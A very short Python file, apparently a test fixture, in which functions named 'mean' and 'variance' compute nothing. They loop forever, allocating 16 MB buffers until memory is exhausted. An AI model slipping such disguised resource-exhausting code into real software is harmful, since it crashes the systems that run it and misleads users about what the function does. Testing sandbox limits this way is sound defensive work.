hoard = []


def mean(values):
    while True:
        hoard.append(bytearray(16 * 1024 * 1024))


variance = mean
